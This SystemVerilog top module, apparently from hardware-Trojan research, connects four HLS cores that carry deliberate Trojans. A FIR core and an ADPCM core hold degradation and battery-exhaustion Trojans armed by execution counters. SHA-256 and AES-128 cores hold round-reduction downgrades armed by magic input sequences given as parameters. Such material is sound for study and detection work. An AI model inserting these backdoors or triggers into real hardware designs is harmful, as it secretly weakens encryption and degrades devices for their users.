// blackhat_hls_top: the three compromised HLS example cores of the design, each with the
// trigger that arms its Trojan, side by side. They do not share data or control; each has its
// own group of ports.
//
//   fir_*    FIR accelerator with FSM bubbles (degradation Trojan), armed by an execution
//            counter that counts the accelerator's completed runs.
//   adpcm_*  ADPCM decode datapath with fake operations on idle units (battery-exhaustion
//            Trojan), armed by its own execution counter.
//   sha_*    SHA-256 core with a preloaded round counter (downgrade Trojan), armed by an input
//            sequence detector that watches message word 0 of every accepted start.
//   aes_*    AES-128 core with the same downgrade Trojan, armed by a sequence detector that
//            watches the first 32 bits of the plaintext of every accepted start.
// Pairing counters with the degradation and exhaustion Trojans and detectors with the
// downgrade Trojans follows the design description. A start is accepted when the core is idle
// (neither busy nor showing done); the detector samples only accepted starts, and the counters
// count done pulses. Each *_trojan output shows the state of that core's trigger and *_exec_count the
// executions counted so far.
//
// Timing: as for each core. A trigger armed by the last value of a sequence acts already on the
// run that carries that value, because the downgrade cores sample `trojan` only after their
// setup phase. Reset is active-low, synchronous.
module blackhat_hls_top #(
  parameter int unsigned TRIG_WIDTH     = 16,
  parameter int unsigned FIR_DEPTH      = 8,
  parameter int unsigned FIR_BUBBLES    = 1,
  parameter bit          FIR_COVER_SAFE = 1'b0,
  parameter int unsigned SHA_REDUCED    = 18,
  parameter int unsigned AES_REDUCED    = 7,
  parameter logic [3:0][31:0] SHA_SEQ = {32'h5eed_c0de, 32'h0bad_f00d, 32'hdead_beef, 32'hcafe_babe},
  parameter logic [3:0][31:0] AES_SEQ = {32'h7a11_0ff5, 32'h3c3c_a5a5, 32'h0f1e_2d3c, 32'hbadc_0ffe},
  localparam int unsigned FIR_AW = (FIR_DEPTH > 1) ? $clog2(FIR_DEPTH) : 1,
  localparam int unsigned FIR_NW = $clog2(FIR_DEPTH + 1)
) (
  input  logic                     clk,
  input  logic                     rst_n,
  // FIR accelerator
  input  logic                     fir_mem_we,
  input  logic                     fir_mem_sel,
  input  logic [FIR_AW-1:0]        fir_mem_addr,
  input  logic [31:0]              fir_mem_wdata,
  input  logic                     fir_start,
  input  logic [FIR_NW-1:0]        fir_ntaps,
  input  logic [31:0]              fir_sum_in,
  output logic                     fir_busy,
  output logic                     fir_done,
  output logic [31:0]              fir_result,
  output logic                     fir_in_bubble,
  output logic                     fir_trojan,
  output logic [TRIG_WIDTH-1:0]    fir_exec_count,
  // ADPCM decode datapath
  input  logic                     adpcm_start,
  input  logic signed [31:0]       adpcm_d_spl,
  input  logic signed [31:0]       adpcm_d_szl,
  input  logic signed [31:0]       adpcm_d_det1,
  input  logic signed [31:0]       adpcm_tmp2,
  input  logic signed [31:0]       adpcm_tmp3,
  output logic                     adpcm_busy,
  output logic                     adpcm_done,
  output logic signed [31:0]       adpcm_d_sl,
  output logic signed [31:0]       adpcm_d_dlt,
  output logic signed [31:0]       adpcm_dl,
  output logic signed [31:0]       adpcm_rl,
  output logic                     adpcm_add_fake,
  output logic                     adpcm_mul_fake,
  output logic                     adpcm_trojan,
  output logic [TRIG_WIDTH-1:0]    adpcm_exec_count,
  // SHA-256 compression
  input  logic                     sha_start,
  input  logic [7:0][31:0]         sha_state_in,
  input  logic [15:0][31:0]        sha_block,
  output logic                     sha_busy,
  output logic                     sha_done,
  output logic [7:0][31:0]         sha_state_out,
  output logic                     sha_downgraded,
  output logic                     sha_trojan,
  // AES-128 encryption
  input  logic                     aes_start,
  input  logic [127:0]             aes_key,
  input  logic [127:0]             aes_pt,
  output logic                     aes_busy,
  output logic                     aes_done,
  output logic [127:0]             aes_ct,
  output logic                     aes_downgraded,
  output logic                     aes_trojan
);

  logic sha_accept, aes_accept;

  // ---------------------------------------------------------------- degradation
  exec_counter_trigger #(.WIDTH(TRIG_WIDTH)) u_fir_trig (
    .clk, .rst_n, .exec_done(fir_done), .trigger(fir_trojan), .count(fir_exec_count));

  fir_degradation #(.DW(32), .DEPTH(FIR_DEPTH), .BUBBLES(FIR_BUBBLES), .COVER_SAFE(FIR_COVER_SAFE)) u_fir (
    .clk, .rst_n, .mem_we(fir_mem_we), .mem_sel(fir_mem_sel), .mem_addr(fir_mem_addr),
    .mem_wdata(fir_mem_wdata), .start(fir_start), .ntaps(fir_ntaps), .sum_in(fir_sum_in),
    .trojan(fir_trojan), .busy(fir_busy), .done(fir_done), .result(fir_result),
    .in_bubble(fir_in_bubble));

  // ---------------------------------------------------------------- battery exhaustion
  exec_counter_trigger #(.WIDTH(TRIG_WIDTH)) u_adpcm_trig (
    .clk, .rst_n, .exec_done(adpcm_done), .trigger(adpcm_trojan), .count(adpcm_exec_count));

  adpcm_exhaust #(.DW(32)) u_adpcm (
    .clk, .rst_n, .start(adpcm_start), .d_spl(adpcm_d_spl), .d_szl(adpcm_d_szl),
    .d_det1(adpcm_d_det1), .tmp2(adpcm_tmp2), .tmp3(adpcm_tmp3), .trojan(adpcm_trojan),
    .busy(adpcm_busy), .done(adpcm_done), .d_sl(adpcm_d_sl), .d_dlt(adpcm_d_dlt),
    .dl(adpcm_dl), .rl(adpcm_rl), .add_fake(adpcm_add_fake), .mul_fake(adpcm_mul_fake));

  // ---------------------------------------------------------------- downgrade
  assign sha_accept = sha_start && !sha_busy && !sha_done;
  assign aes_accept = aes_start && !aes_busy && !aes_done;

  seq_detector_trigger #(.DW(32), .LEN(4), .SEQ(SHA_SEQ)) u_sha_trig (
    .clk, .rst_n, .in_valid(sha_accept), .in_data(sha_block[0]), .trigger(sha_trojan));

  sha256_downgrade #(.ROUNDS(64), .REDUCED_ROUNDS(SHA_REDUCED)) u_sha (
    .clk, .rst_n, .start(sha_start), .state_in(sha_state_in), .block(sha_block),
    .trojan(sha_trojan), .busy(sha_busy), .done(sha_done), .state_out(sha_state_out),
    .downgraded(sha_downgraded));

  seq_detector_trigger #(.DW(32), .LEN(4), .SEQ(AES_SEQ)) u_aes_trig (
    .clk, .rst_n, .in_valid(aes_accept), .in_data(aes_pt[127:96]), .trigger(aes_trojan));

  aes128_downgrade #(.ROUNDS(10), .REDUCED_ROUNDS(AES_REDUCED)) u_aes (
    .clk, .rst_n, .start(aes_start), .key(aes_key), .pt(aes_pt), .trojan(aes_trojan),
    .busy(aes_busy), .done(aes_done), .ct(aes_ct), .downgraded(aes_downgraded));

endmodule
